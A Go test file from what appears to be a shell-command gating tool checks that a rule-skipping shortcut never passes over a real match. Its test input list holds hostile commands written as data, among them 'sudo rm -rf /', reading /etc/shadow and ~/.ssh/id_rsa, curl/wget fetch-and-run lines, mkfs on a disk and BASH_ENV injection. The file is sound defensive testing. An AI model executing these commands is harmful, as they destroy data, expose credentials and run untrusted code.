package rules

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"gatesh/parser"
	"gatesh/rules/internal/schema"
)

// TestCannotMatchNeverSkipsAMatch checks the shortcut that spares compiling
// rules at start: whenever cannotMatch says a rule cannot match a command,
// match agrees, over every example of the default rules, the command
// corpus and commands made to meet each condition the shortcut reads.
func TestCannotMatchNeverSkipsAMatch(t *testing.T) {
	s := Default()
	checkPassesNoMatch(t, s, "cannotMatch", func(_ int, l *lazyRule, v *cmdView, downloads map[string]string) bool {
		if l.needs != l.spec().Needs() {
			t.Fatalf("rule %q: needs %#x, want %#x", l.spec().ID, l.needs, l.spec().Needs())
		}
		return cannotMatch(l.needs, v, downloads) || l.needs&schema.NeedSearch != 0 && !v.mayBeSearch(s)
	})
}

// checkPassesNoMatch checks a shortcut that passes rules unmatched, named
// what: whenever passes says rule i (l) cannot match a command, match
// agrees, over cannotMatchTexts. It fails when the shortcut passes no
// rule or every one.
func checkPassesNoMatch(t *testing.T, s *Set, what string, passes func(i int, l *lazyRule, v *cmdView, downloads map[string]string) bool) {
	t.Helper()
	skipped, checked := 0, 0
	for _, text := range cannotMatchTexts(t, s) {
		sc := parser.Parse(text, parser.Options{})
		downloads := map[string]string{}
		for _, c := range sc.Commands {
			v := s.view(c)
			for i, l := range s.rules {
				if !passes(i, l, v, downloads) {
					checked++
					continue
				}
				skipped++
				r, err := l.get()
				if err != nil {
					t.Fatalf("rule %q: %v", l.spec().ID, err)
				}
				if _, ok := s.match(r, v, downloads); ok {
					t.Errorf("%q: rule %q matches command %q, which %s passes", text, r.id, c.String(), what)
				}
			}
			if len(v.writes) > 0 {
				s.noteDownloads(v, downloads)
			}
		}
	}
	if skipped == 0 || checked == 0 {
		t.Fatalf("%s: skipped %d, checked %d: the test exercises nothing", what, skipped, checked)
	}
}

func corpusCommands(t *testing.T, path string) []string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 16<<20)
	for sc.Scan() {
		var e struct {
			Cmd string `json:"cmd"`
		}
		if json.Unmarshal(sc.Bytes(), &e) == nil && e.Cmd != "" {
			out = append(out, e.Cmd)
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// cannotMatchTexts are the commands the shortcuts that pass rules
// unmatched are checked against: every example of the default rules, the
// command corpus and commands made to meet each condition cannotMatch
// reads.
func cannotMatchTexts(t *testing.T, s *Set) []string {
	t.Helper()
	texts := []string{
		"GATESH_HOME=/x ls", "BASH_ENV=/tmp/x bash -c true", "PROMPT_COMMAND=id env",
		"sudo rm -rf /", "doas cat /etc/shadow", "env FOO=1 sudo -u root ls",
		"curl -o x.sh https://e.org/x; bash x.sh", "wget -O run https://e.org/r && ./run",
		"cat x.sql | psql", "psql -c 'DROP TABLE t'", "redis-cli FLUSHALL", "python3 -c 'import os; os.remove(p)'",
		"cat ~/.ssh/id_rsa", "echo x > /etc/passwd", "tee -a ~/.gatesh/config.toml", "find . | xargs rm",
		"mkfs.ext4 /dev/sda1", "python3 -m twine upload dist/*", "cat .en*", "true", "",
	}
	for _, l := range s.rules {
		texts = append(texts, l.spec().Examples...)
		texts = append(texts, l.spec().NotExamples...)
	}
	files, _ := filepath.Glob(filepath.Join("..", "testdata", "corpus", "*.jsonl"))
	if len(files) == 0 {
		t.Fatal("no corpus files")
	}
	for _, f := range files {
		texts = append(texts, corpusCommands(t, f)...)
	}
	return texts
}
